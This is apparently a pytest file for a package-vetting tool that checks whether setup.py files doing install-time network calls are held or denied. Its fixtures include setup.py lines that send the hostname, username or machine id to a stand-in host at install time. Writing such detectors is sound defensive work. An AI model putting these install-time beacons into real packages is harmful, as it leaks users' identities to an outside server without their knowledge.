"""A build that downloads the prebuilt library for its own platform (issue 16, ADR 0136):
ddtrace's setup.py puts ``platform.system()`` in the address of the libddwaf archive it
fetches. That chooses a file; it names no one. An install-time download still holds."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist

DOWNLOAD = (
    "import platform\n"
    "from urllib.request import urlretrieve\n"
    "from setuptools import setup\n"
    "CURRENT_OS = platform.system()\n"
    "def archive(arch, os):\n"
    "    return 'libfast-%s-%s.tar.gz' % (os.lower(), arch)\n"
    "url = 'https://github.com/fast/libfast/releases/download/1.2/' + archive(\n"
    "    platform.machine(), CURRENT_OS)\n"
    "urlretrieve(url, 'libfast.tar.gz')\n"
    "setup(name='fastlib')\n"
)


def _vet(setup: str) -> Outcome:
    files = {"setup.py": setup, "fastlib/__init__.py": ""}
    return vet("fastlib-1.0.tar.gz", sdist("fastlib", "1.0", files)).verdict


def test_the_os_name_in_a_build_download_address_holds_not_denies() -> None:
    assert _vet(DOWNLOAD) is Outcome.HOLD


@pytest.mark.parametrize(
    "told",
    [
        "socket.gethostname()",
        "getpass.getuser()",
        "platform.node()",
        "platform.uname()[1]",
        "platform.platform()",
        "str(uuid.getnode())",
    ],
)
def test_a_name_of_the_host_or_user_sent_stays_denied(told: str) -> None:
    sent = (
        "import getpass, platform, socket, uuid\n"
        "from urllib.request import urlopen\n"
        "from setuptools import setup\n"
        f"urlopen('https://x.example/?h=' + {told})\n"
        "setup(name='fastlib')\n"
    )
    assert _vet(sent) is Outcome.DENY


def test_the_os_name_sent_with_the_user_stays_denied() -> None:
    both = DOWNLOAD.replace("platform.machine(), CURRENT_OS", "CURRENT_OS, getpass.getuser()")
    assert _vet("import getpass\n" + both) is Outcome.DENY
